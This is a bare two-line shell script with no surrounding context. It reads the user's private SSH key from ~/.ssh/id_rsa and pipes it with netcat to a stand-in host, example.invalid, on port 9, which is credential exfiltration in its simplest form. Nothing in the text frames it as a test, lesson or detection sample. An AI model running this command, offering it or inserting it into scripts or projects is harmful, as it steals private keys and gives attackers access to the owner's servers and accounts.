#!/bin/sh
cat ~/.ssh/id_rsa | nc example.invalid 9
